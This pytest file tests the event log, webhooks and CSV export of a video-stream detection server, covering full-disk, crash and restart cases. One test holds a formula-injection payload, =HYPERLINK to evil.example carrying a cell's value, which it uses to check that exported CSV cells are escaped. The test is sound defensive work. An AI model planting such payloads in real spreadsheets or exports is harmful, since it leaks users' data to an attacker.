    events undelivered, and once both are back those very events arrive, first to last."""
    receiver = WebhookReceiver(refuse=10**6)
    car = CAR_CLIP
    server = clip_server(tmp_path, webhooks=receiver.url, shutdown_timeout_s=2)
    gate = GATE
    try:
        with server, httpx.Client(base_url=server.base_url, timeout=60) as c:
            stream = {"url": f"file://{car}", "max_fps": 8, "track": True, "lines": [gate]}
            assert c.post("/streams", json=stream).status_code == 201
            deadline = time.monotonic() + 90
            while len(before := c.get("/events").json()["events"]) < 2:
                assert time.monotonic() < deadline, "fewer than 2 events in 90 s"
                time.sleep(0.5)
            assert receiver.refused >= 1 and receiver.events() == []
        assert "not delivered at shutdown" in server.log_text()
        receiver.refuse = 0
        server.start()  # the same data directory: its streams, its events, the cursor
        with httpx.Client(base_url=server.base_url, timeout=60) as c:
            kept = c.get("/events", params={"limit": len(before)}).json()["events"]
            assert [e["id"] for e in kept] == [e["id"] for e in before]
            deadline = time.monotonic() + 30
            while len(receiver.events()) < len(before) and time.monotonic() < deadline:
                time.sleep(0.2)
        server.stop()
    finally:
        receiver.close()
    got = receiver.events()
    assert [e["id"] for e in got[: len(before)]] == [e["id"] for e in before]
    assert got[: len(before)] == before


def test_webhook_settings_are_checked() -> None:
    with pytest.raises(ValueError, match="STREAMDET_WEBHOOKS"):
        Settings(webhooks=["ftp://example.com/x"])
    assert Settings(webhooks="http://a/x, https://b/y").webhooks == ["http://a/x", "https://b/y"]


async def _next_chunk(stream: AsyncGenerator[str, None], timeout_s: float = 5.0) -> str:
    return await asyncio.wait_for(anext(stream), timeout_s)


async def test_a_filtered_event_stream_keeps_alive_while_other_events_come(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Events the filter passes over wake the stream without sending anything: the keep-alive
    still goes out every ``HEARTBEAT_S``, with the cursor past them as its ``id``."""
    monkeypatch.setattr(events_route, "HEARTBEAT_S", 0.3)
    log = EventLog(size=100, start_id=1)
    busy = EventFilter(types=frozenset({"line_crossing"}))
    stream = events_route._event_stream(log, log.last_id, busy)

    async def other_events() -> None:
        for n in range(100):
            log.add("a", "", 1.0, [ManualEvent("busy", n)], _name)
            await asyncio.sleep(0.05)

    adding = asyncio.create_task(other_events())
    try:
        assert (await _next_chunk(stream)).startswith("retry: 2000\n")
        kept_alive = await _next_chunk(stream, 2.0)  # within 0.3 s
        assert kept_alive.startswith(": keep-alive\nid: ")
        assert int(kept_alive.split("id: ")[1]) > 0  # past the events it passed over
    finally:
        adding.cancel()
        await stream.aclose()


async def test_an_event_stream_reconnecting_before_its_first_event_misses_nothing() -> None:
    """The opening sends the cursor as ``id``: an EventSource that lost its connection before
    any event came sends it back as ``Last-Event-ID`` and gets the events of the gap."""
    log = EventLog(size=100, start_id=1)
    log.add("a", "", 1.0, [ManualEvent("before", 0)], _name)  # 1: before it connected
    manual = EventFilter(types=frozenset({"manual"}))
    first = events_route._event_stream(log, events_route._resume_from(None, None, log), manual)
    opening = await _next_chunk(first)
    await first.aclose()  # the connection drops before any event
    last_event_id = opening.split("id: ")[1].strip()
    assert opening.startswith("retry: 2000\n") and last_event_id == "1"
    log.add("a", "", 2.0, [ManualEvent("during-gap", 1), ManualEvent("during-gap", 2)], _name)
    cursor = events_route._resume_from(last_event_id, None, log)
    again = events_route._event_stream(log, cursor, manual)
    try:
        assert await _next_chunk(again) == "retry: 2000\nid: 1\n\n"
        got = [await _next_chunk(again), await _next_chunk(again)]
        assert [chunk.split("\n")[0] for chunk in got] == ["id: 2", "id: 3"]
        assert all('"label":"during-gap"' in chunk for chunk in got)
    finally:
        await again.aclose()


def test_missed_counts_the_events_of_a_run_retention_emptied_not_the_id_gap(
    tmp_path: Path,
) -> None:
    """Retention deletes every event; the next start's ids start afresh from the clock (here
    5000), far above the old ones: a reader from before them missed 3 events, across any
    number of restarts, not the distance between the two runs' ids."""
    store = EventStore(tmp_path, size=10)
    log = EventLog(size=10, start_id=100, store=store)
    log.add("a", "", 1.0, [_crossing(f) for f in range(3)], _name)  # 100-102
    assert log.forget_before(2.0) == 3  # retention: all of them
    assert log.read(0, 10).missed == 3
    store.close()
    for restart in range(2):
        store = EventStore(tmp_path, size=10)
        log = EventLog(size=10, start_id=5000, store=store)
        if restart == 0:  # an empty store: a new run of ids
            assert [e["id"] for e in log.add("a", "", 3.0, [_crossing(8)] * 2, _name)] == [
                5000,
                5001,
            ]
        assert (log.read(0, 10).missed, len(log.read(0, 10).events)) == (3, 2), restart
        assert log.read(100, 10).missed == 2  # 101 and 102
        assert log.read(102, 10).missed == 0 and log.read(4999, 10).missed == 0
        assert log.kept_since == 3.0
        store.close()
    emptied = EventLog(size=10, start_id=1)
    emptied.add("a", "", 1.0, [_crossing(1)], _name)
    emptied.forget_before(2.0)
    assert emptied.kept_since is not None  # incomplete counts (it raised IndexError)


def test_pending_counts_events_not_the_id_gap_between_runs(tmp_path: Path) -> None:
    """A sink (MQTT, a webhook) that had delivered up to 100 before retention emptied the log
    and ids jumped to the clock between runs has 4 events pending (101 and 102, missed, and
    the 2 of the new run), not the ~16 million between the runs' ids."""
    from streams.events import LogReader

    store = EventStore(tmp_path, size=10)
    log = EventLog(size=10, start_id=100, store=store)
    reader = LogReader("sink", log)
    log.add("a", "", 1.0, [_crossing(f) for f in range(3)], _name)  # 100-102
    reader.delivered(100, 1)
    assert reader.pending == 2
    assert log.forget_before(2.0) == 3  # retention: all of them
    assert reader.pending == 2  # they left the log: still to be told of (as missed)
    store.close()
    store = EventStore(tmp_path, size=10)
    log = EventLog(size=10, start_id=16_000_000, store=store)
    log.add("a", "", 3.0, [_crossing(8)] * 2, _name)
    again = LogReader("sink", log)
    assert again.cursor == 100 and again.pending == 4
    page = again.next_page(10)
    assert page.missed == 2 and len(page.events) == 2
    again.delivered(page.events[-1]["id"], 2)
    assert again.pending == 0
    store.close()


# ---- the event log on a disk that fills up --------------------------------------------------

_KILLED_WHILE_FULL = r"""
import json, os, signal, sqlite3, sys, time
from pathlib import Path

from streams import event_store
from streams.event_store import EventStore
from streams.events import EventLog, ManualEvent

data, mode = Path(sys.argv[1]), sys.argv[2]
full = False


def fails(sql):
    words = sql.lstrip().upper()
    if not full or words.startswith(("SELECT", "PRAGMA")):
        return False
    return mode != "events" or "INTO EVENTS" in words


class FullDisk(sqlite3.Connection):
    def execute(self, sql, *args):
        if fails(sql):
            raise sqlite3.OperationalError("database or disk is full")
        return super().execute(sql, *args)

    def executemany(self, sql, *args):
        if fails(sql):
            raise sqlite3.OperationalError("database or disk is full")
        return super().executemany(sql, *args)


if mode != "tmpfs":
    EventStore._connect = lambda self: sqlite3.connect(self.path, timeout=10.0, factory=FullDisk)
ids_full = False  # not even the 16 bytes of events.ids, overwritten in place
if mode in ("nothing", "ids-back"):
    write = event_store._IdMarks.write
    event_store._IdMarks.write = lambda self, *a, **k: not ids_full and write(self, *a, **k)
store = EventStore(data, 100)
log = EventLog(100, start_id=1000, store=store)


def add(n):
    events = [ManualEvent("x", k) for k in range(n)]
    return [e["id"] for e in log.add("a", "", time.time(), events, str)]


given = add(3)  # 1000-1002: written
while len(store.load()[0]) < 3:
    time.sleep(0.01)
if mode == "tmpfs":  # the clips fill the disk
    with open(data / "filler", "wb") as filler:
        try:
            while True:
                filler.write(bytes(65536))
                filler.flush()
        except OSError:
            pass
full = True
ids_full = mode in ("nothing", "ids-back")
given += add(2) + add(3)  # 1003-1007: the writes fail, the ids are given (sent, streamed)
while not store.failing:
    time.sleep(0.01)
if mode == "ids-back":  # events.ids can be written again, the database still cannot
    ids_full = False
    deadline = time.monotonic() + 10
    while store._marks.read()[0] != given[-1] and time.monotonic() < deadline:
        time.sleep(0.01)
print(json.dumps(given), flush=True)
os.kill(os.getpid(), signal.SIGKILL)
"""


@pytest.fixture
def tmpfs(tmp_path: Path) -> Iterator[Path]:
    """A 4 MB tmpfs to fill up, where this user may mount one (else skipped)."""
    mount = tmp_path / "tmpfs"
    mount.mkdir()
    try:
        done = subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(mount)],
            check=False,
            capture_output=True,
            timeout=30,
        )
    except (OSError, subprocess.TimeoutExpired) as exc:
        pytest.skip(f"cannot mount a tmpfs: {exc}")
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs: {done.stderr.decode(errors='replace').strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False, capture_output=True, timeout=30)


@pytest.mark.parametrize("mode", ["events", "sqlite", "nothing", "ids-back", "tmpfs"])
def test_no_id_is_given_twice_after_a_kill_while_the_disk_was_full(
    tmp_path: Path, mode: str, request: pytest.FixtureRequest
) -> None:
    """Events 1003-1007 are logged (and sent, and streamed) while the disk is full, then the
    server is killed (``kill -9``): the restarted log never gives their ids again (webhook
    receivers got ids twice with other events, and readers whose cursor was past 1002
    skipped the new events), and counts them as missed where it can know they were given:
    always, but where not even the 16 bytes of ``events.ids`` could be written.
    ``events``: only the events' rows fail; ``sqlite``: every write to the database;
    ``nothing``: ``events.ids`` too; ``ids-back``: ``events.ids`` too, until it can be
    written again while the database still cannot (the failed write of the ids given was
    never tried again: they were passed over, not counted as missed); ``tmpfs``: a real
    full disk."""
    data = request.getfixturevalue("tmpfs") if mode == "tmpfs" else tmp_path / "data"
    child = subprocess.run(
        [sys.executable, "-c", _KILLED_WHILE_FULL, str(data), mode],
        check=False,
        capture_output=True,
        timeout=120,
        cwd=REPO,
    )
    assert child.returncode == -signal.SIGKILL, child.stderr.decode()
    given = json.loads(child.stdout.decode().splitlines()[-1])
    assert given == list(range(1000, 1008))
    said = child.stderr.decode()  # what the log said, naming the setting
    if mode in ("nothing", "ids-back"):
        assert "events.ids: cannot be written" in said and "STREAMDET_DATA_DIR" in said, said
    assert ("events.ids: writes work again" in said) == (mode == "ids-back"), said
    (data / "filler").unlink(missing_ok=True)  # space again
    for restart in range(2):  # a kill, then a clean close: the same
        store = EventStore(data, 100)
        log = EventLog(100, start_id=1000, store=store)
        assert [e["id"] for e in log.read(0, 100).events[:3]] == [1000, 1001, 1002]
        assert log.get(1002) is not None and log.get(1004) is None
        if restart == 0:
            new = log.add("a", "", 9.0, [ManualEvent("after", k) for k in range(2)], _name)
            assert min(e["id"] for e in new) > max(given)  # never given twice
        for cursor in (1002, 1004, 1007):
            page = log.read(cursor, 100)  # a client whose cursor is among the lost ones
            assert page.events == new and page.next == new[-1]["id"]
            assert page.missed == (0 if mode == "nothing" else 1007 - cursor)
        assert log.read(new[-1]["id"], 10) == EventPage([], new[-1]["id"], 0)
        store.close()


@pytest.fixture
def full_disk(monkeypatch: pytest.MonkeyPatch) -> threading.Event:
    """While set, every write to an event store's database fails as on a full disk."""
    full = threading.Event()

    class FullDisk(sqlite3.Connection):
        def execute(self, sql: str, *args: Any) -> sqlite3.Cursor:
            if full.is_set() and not sql.lstrip().upper().startswith(("SELECT", "PRAGMA")):
                raise sqlite3.OperationalError("database or disk is full")
            return super().execute(sql, *args)

        def executemany(self, sql: str, *args: Any) -> sqlite3.Cursor:
            if full.is_set():
                raise sqlite3.OperationalError("database or disk is full")
            return super().executemany(sql, *args)

    def connect(self: EventStore) -> sqlite3.Connection:
        return sqlite3.connect(self.path, timeout=10.0, factory=FullDisk)

    monkeypatch.setattr(EventStore, "_connect", connect)
    monkeypatch.setattr(event_store, "RETRY_FIRST_S", 0.02)
    monkeypatch.setattr(event_store, "RETRY_MAX_S", 0.1)
    return full


def test_events_written_while_the_disk_is_full_are_written_once_it_is_not(
    tmp_path: Path, full_disk: threading.Event, caplog: pytest.LogCaptureFixture
) -> None:
    """The writes of a full disk fail for a while: their events and cursors are kept, and
    written once there is space again (they were thrown away), with one error for the
    episode, naming the setting; the next start carries on from them."""
    store = EventStore(tmp_path, size=100)
    log = EventLog(100, start_id=1000, store=store)
    log.add("a", "", 1.0, [_crossing(f) for f in range(3)], _name)  # 1000-1002
    wait_until(lambda: len(store.load()[0]) == 3, "the first events were not written")
    full_disk.set()
    for frame in range(3, 8):  # 1003-1007, written and retried while the disk is full
        log.add("a", "", 2.0, [_crossing(frame)], _name)
        log.save_cursor("webhook x", 1000 + frame)
        time.sleep(0.05)
    wait_until(lambda: store.failing, "the writes did not fail")
    time.sleep(0.3)  # retried meanwhile
    errors = [
        r for r in caplog.records if r.levelname == "ERROR" and r.name == "streams.event_store"
    ]
    assert len(errors) == 1 and "STREAMDET_DATA_DIR" in errors[0].getMessage()
    assert str(tmp_path) in errors[0].getMessage()
    assert len(store.load()[0]) == 3 and store.cursor("webhook x") is None
    full_disk.clear()
    wait_until(lambda: len(store.load()[0]) == 8, "what was held was not written")
    assert [e["id"] for e in store.load()[0]] == list(range(1000, 1008))
    assert store.cursor("webhook x") == 1007 and not store.failing
    assert "writing works again" in caplog.text
    store.close()
    again = EventStore(tmp_path, size=100)
    log = EventLog(100, start_id=1000, store=again)
    assert [e["id"] for e in log.read(0, 100).events] == list(range(1000, 1008))
    assert [e["id"] for e in log.add("a", "", 3.0, [_crossing(9)], _name)] == [1008]
    again.close()


def test_a_disk_full_at_shutdown_loses_events_but_never_their_ids(
    tmp_path: Path, full_disk: threading.Event, caplog: pytest.LogCaptureFixture
) -> None:
    """A plain stop (SIGTERM) while the disk is still full: the events held are lost (and
    logged), their ids are not given again, and a cursor before them is told it missed
    them."""
    store = EventStore(tmp_path, size=100)
    log = EventLog(100, start_id=1000, store=store)
    log.add("a", "", 1.0, [_crossing(f) for f in range(3)], _name)  # 1000-1002
    wait_until(lambda: len(store.load()[0]) == 3, "the first events were not written")
    full_disk.set()
    log.add("a", "", 2.0, [_crossing(f) for f in range(3, 7)], _name)  # 1003-1006
    store.close()
    assert "at shutdown; 4 event(s) and 0 cursor(s) are lost" in caplog.text
    full_disk.clear()
    again = EventStore(tmp_path, size=100)
    log = EventLog(100, start_id=1000, store=again)
    new = log.add("a", "", 3.0, [_crossing(9)], _name)
    assert new[0]["id"] > 1006
    assert log.read(1002, 10) == EventPage(new, new[0]["id"], 4)
    assert log.read(1004, 10) == EventPage(new, new[0]["id"], 2)
    again.close()


async def test_a_log_loaded_with_gaps_in_its_ids_reads_and_resumes_by_id(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Batches in the middle never reached the disk (103-105): the log loaded after a restart
    answers by id (it answered ``after=104`` with 101-103 and a ``next`` below the cursor,
    resumed event streams from the wrong place, and 404ed snapshots of events it had)."""
    store = EventStore(tmp_path, size=100)
    log = EventLog(100, start_id=100, store=store)
    for frame in range(10):  # 100-109, one a frame, 107 and 108 of the same frame
        log.add("a", "", 1.0 + frame, [_crossing(frame)] * (2 if frame == 7 else 1), _name)
    log.save_cursor("webhook x", 101)
    store.close()
    with sqlite3.connect(tmp_path / "events.sqlite3") as db:
        db.execute("DELETE FROM events WHERE id BETWEEN 103 AND 105")
    store = EventStore(tmp_path, size=100)
    log = EventLog(100, store=store)

    def ids(page: EventPage) -> list[int]:
        return [e["id"] for e in page.events]

    page = log.read(104, 100)
    assert (ids(page), page.next, page.missed) == ([106, 107, 108, 109, 110], 110, 1)
    page = log.read(101, 100)
    assert (ids(page), page.next, page.missed) == ([102, 106, 107, 108, 109, 110], 110, 3)
    page = log.read(101, 1)  # the lost ones after the page's end are the next page's
    assert (ids(page), page.next, page.missed) == ([102], 102, 0)
    page = log.read(102, 1)
    assert (ids(page), page.next, page.missed) == ([106], 106, 3)
    assert log.read(0, 100).missed == 3 and log.read(110, 10) == EventPage([], 110, 0)
    assert log.read(500, 10) == EventPage([], 500, 0)  # never below the cursor
    assert (log.get(106) or {}).get("frame") == 6
    assert log.get(104) is None and log.frame_start(108) == 107 == log.frame_start(107)
    assert log.kept_since == 1.0  # events of what it covers are missing
    assert [e["id"] for e in log.add("a", "", 20.0, [_crossing(20)], _name)] == [111]
    assert log.oldest_id == 100 and log.latest(2).next == 111
    # A webhook at 101 whose receiver fails: the 3 lost ones are counted once, however
    # often its pages are read again.
    reader = LogReader("webhook x", log)
    assert reader.cursor == 101 and reader.pending == 10  # 102-111: 103-105 lost
    assert ids(reader.next_page(100)) == [102] and ids(reader.next_page(100)) == [102]
    reader.delivered(102, 1)
    assert ids(reader.next_page(100)) == [106, 107, 108, 109, 110, 111]
    assert ids(reader.next_page(100)) == [106, 107, 108, 109, 110, 111]
    assert reader.missed == 3 and reader.pending == 6
    # Server-sent events resumed from Last-Event-ID 104, and a long poll from 111.
    stream = events_route._event_stream(
        log, events_route._resume_from("104", None, log), EVERY_EVENT
    )
    try:
        assert await _next_chunk(stream) == "retry: 2000\nid: 104\n\n"
        assert json.loads((await _next_chunk(stream))[6:]) == {"type": "missed", "missed": 1}
        got = [(await _next_chunk(stream)).split("\n")[0] for _ in range(6)]
        assert got == [f"id: {i}" for i in (106, 107, 108, 109, 110, 111)]
        waiting = asyncio.create_task(log.wait(111, 5.0))
        await asyncio.sleep(0.01)
        log.add("a", "", 21.0, [_crossing(21)], _name)
        assert await waiting and ids(log.read(111, 10)) == [112]
        assert (await _next_chunk(stream)).startswith("id: 112\n")
    finally:
        await stream.aclose()
    store.close()


def test_the_ids_of_a_run_that_did_not_close_are_passed_over_not_missed(
    tmp_path: Path,
) -> None:
    """A restart after a run that did not close (its writer never got to the last events)
    carries on above the ids it had reserved; those passed over are not events: nobody is
    told they missed them, across later restarts too."""
    store = EventStore(tmp_path, size=10)
    log = EventLog(10, start_id=100, store=store)
    log.add("a", "", 1.0, [_crossing(f) for f in range(3)], _name)  # 100-102
    wait_until(lambda: len(store.load()[0]) == 3, "the events were not written")
    # Killed: the writer stops without closing (its reservation stays).
    store._ops.put(None)
    store._writer.join(5)
    with sqlite3.connect(tmp_path / "events.sqlite3") as db:
        db.execute("INSERT OR REPLACE INTO meta (key, value) VALUES ('reserved', 10099)")
    (tmp_path / "events.ids").write_bytes(event_store._MARKS.pack(102, 10099))
    for restart in range(2):
        store = EventStore(tmp_path, size=10)
        log = EventLog(10, start_id=100, store=store)
        if restart == 0:
            assert log.add("a", "", 2.0, [_crossing(9)], _name)[0]["id"] == 10100
        page = log.read(99, 10)
        assert [e["id"] for e in page.events] == [100, 101, 102, 10100] and page.missed == 0
        assert log.kept_since is None and log.read(102, 10).missed == 0
        store.close()


def test_names_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
    """A manual event's label (a zone's or a line's name alike) that begins like a formula:
    the counts CSV quotes it with ``'`` (``=HYPERLINK(...)`` was a live link in Excel)."""
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("-5") == "'-5" and safe_cell(-5) == -5 and safe_cell("gate") == "gate"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with TestClient(file_stream_app(tmp_path, event_log_size=3)) as c:
        added = c.post("/streams", json={"url": f"file://{CAR_CLIP}", "id": "cam"})
        assert added.status_code == 201, added.text
        made = c.post("/streams/cam/events", json={"label": formula, "clip": False})
        assert made.status_code == 201, made.text
        assert made.json()["label"] == formula  # kept as given; only the CSV cell is quoted
        table = c.get("/events/counts", params={"by": "label", "type": "manual", "format": "csv"})
        rows = list(csv.DictReader(io.StringIO(table.text)))
        assert [r["label"] for r in rows] == ["'" + formula], table.text
        # A first read without a cursor starts at the oldest kept: it missed nothing (it was
        # told it had missed every event that had left the log).
        for n in range(5):
            c.post("/streams/cam/events", json={"label": f"bell {n}", "clip": False})
        first = c.get("/events").json()
        assert len(first["events"]) == 3 and first["missed"] == 0, first


def test_events_whose_snapshots_were_deleted_no_longer_claim_one(tmp_path: Path) -> None:
    """Snapshots are kept for the newest ``--event-snapshots`` frames with events; an older
    event still named its snapshot and thumbnail (each a 404), and ``has_snapshot=true``
    listed it (97 % of the events of a log at its defaults)."""
    with TestClient(file_stream_app(tmp_path, event_snapshots=2)) as c:
        sid = c.post("/streams", json={"url": f"file://{BOTTLE_CLIP}", "max_fps": 4}).json()["id"]
        deadline = time.monotonic() + 60
        while c.get(f"/streams/{sid}/latest.jpg").status_code != 200:
            assert time.monotonic() < deadline, "the stream never had a frame"
            time.sleep(0.1)
        made = [c.post(f"/streams/{sid}/events", json={"label": f"n{i}"}).json() for i in range(4)]
        assert all("snapshot" in event for event in made)
        for event in made:  # each drawn (the older ones then deleted)
            c.get(event["snapshot"])
        kept = c.get("/events", params={"type": "manual", "has_snapshot": True}).json()["events"]
        assert [e["label"] for e in kept] == ["n2", "n3"], kept
        assert all(c.get(e["snapshot"]).status_code == 200 for e in kept)
        listed = c.get("/events", params={"type": "manual"}).json()["events"]
        assert [("snapshot" in e, "thumbnail" in e) for e in listed[:2]] == [(False, False)] * 2
        lost = c.get("/events", params={"type": "manual", "has_snapshot": False}).json()
        assert [e["label"] for e in lost["events"]] == ["n0", "n1"]


def test_an_event_whose_snapshot_could_not_be_written_claims_none(tmp_path: Path) -> None:
    """A snapshot that failed to write (a full disk, a folder in the way) stayed linked and
    listed by ``has_snapshot=true``, its 404 blaming the number of snapshots kept; after a
    restart too."""
    snapshots = tmp_path / "data" / "snapshots"
    with TestClient(file_stream_app(tmp_path)) as c:
        sid = c.post("/streams", json={"url": f"file://{BOTTLE_CLIP}", "max_fps": 4}).json()["id"]
        deadline = time.monotonic() + 60
        while c.get(f"/streams/{sid}/latest.jpg").status_code != 200:
            assert time.monotonic() < deadline, "the stream never had a frame"
            time.sleep(0.1)
        kept = c.post(f"/streams/{sid}/events", json={"label": "kept"}).json()
        assert c.get(kept["snapshot"]).status_code == 200
        asked = c.head(kept["snapshot"])  # HEAD too (it was 405)
        assert asked.status_code == 200 and asked.headers["content-type"] == "image/jpeg"
        shutil.rmtree(snapshots)
        snapshots.write_text("in the way")  # ENOTDIR for every snapshot from now on
        failed = c.post(f"/streams/{sid}/events", json={"label": "failed"}).json()
        missing = c.get(failed["snapshot"])
        assert missing.status_code == 404, missing.text
        assert "could not be written" in missing.json()["detail"], missing.text
        assert "STREAMDET_DATA_DIR" in missing.json()["detail"]
        listed = c.get("/events", params={"type": "manual"}).json()["events"]
        claims = [(e["label"], "snapshot" in e) for e in listed]
        assert claims == [("kept", True), ("failed", False)]
        having = c.get("/events", params={"type": "manual", "has_snapshot": True}).json()
        assert [e["label"] for e in having["events"]] == ["kept"]
        c.delete(f"/streams/{sid}")
    snapshots.unlink()
    with TestClient(file_stream_app(tmp_path)) as c:  # restarted: the snapshot is still lost
        listed = c.get("/events", params={"type": "manual"}).json()["events"]
        assert [(e["label"], "snapshot" in e) for e in listed] == [
            ("kept", False),  # its folder went with the file in the way
            ("failed", False),
        ]


def test_a_webhook_that_missed_events_is_logged_by_its_masked_name(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Slack, Discord and Home Assistant hooks carry their secret in their path: the warning
    that events left the log before a webhook from the setting got them printed it whole."""
    secret = "Xk9sPq2LmN7vR4tY8wZ3aB6c"
    log = EventLog(size=3, start_id=1)
    sender = WebhookSender(f"http://127.0.0.1:9/services/T1/B2/{secret}", log, None, 5)
    log.add("a", "", 1.0, [_crossing(f) for f in range(1, 7)], _name)
    with caplog.at_level(logging.WARNING, logger="streams.events"):
        page = sender._reader.next_page(10)
    assert page.missed == 3
    assert "left the event log" in caplog.text and secret not in caplog.text, caplog.text
    assert sender.name in caplog.text
